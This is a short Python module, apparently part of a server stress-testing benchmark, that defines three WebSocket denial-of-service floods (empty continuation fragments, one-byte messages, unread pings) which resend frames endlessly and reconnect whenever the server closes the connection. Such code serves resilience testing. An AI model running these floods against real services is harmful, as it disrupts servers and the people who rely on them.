"""Floods of small frames on an anonymous WebSocket."""

from __future__ import annotations

from typing import Final, NoReturn

from bench.attack.target import Refused, Target
from bench.attack.websocket import CONTINUATION, FINAL, PING, TEXT, WebSocket, make_frame

__all__ = ["empty_fragments", "one_byte_messages", "pings"]

_FRAMES: Final = 10_000
"""Frames per write."""


async def empty_fragments(target: Target) -> NoReturn:
    """One socket sends a message of endless empty fragments."""
    await _flood(target, make_frame(CONTINUATION), first=make_frame(TEXT))


async def one_byte_messages(target: Target) -> NoReturn:
    """One socket sends messages of one byte as fast as it can."""
    await _flood(target, make_frame(FINAL | TEXT, b"1"))


async def pings(target: Target) -> NoReturn:
    """One socket sends pings as fast as it can and does not read the pongs."""
    await _flood(target, make_frame(FINAL | PING))


async def _flood(target: Target, frame: bytes, *, first: bytes = b"") -> NoReturn:
    """Send a frame again and again, and reconnect whenever the server closes the connection."""
    target.begin()
    while True:
        try:
            socket = await WebSocket.open(target)
            await socket.send_frames(first)
            while True:
                await socket.send_frames(frame * _FRAMES)
        except Refused as refusal:
            await target.refuse(str(refusal))
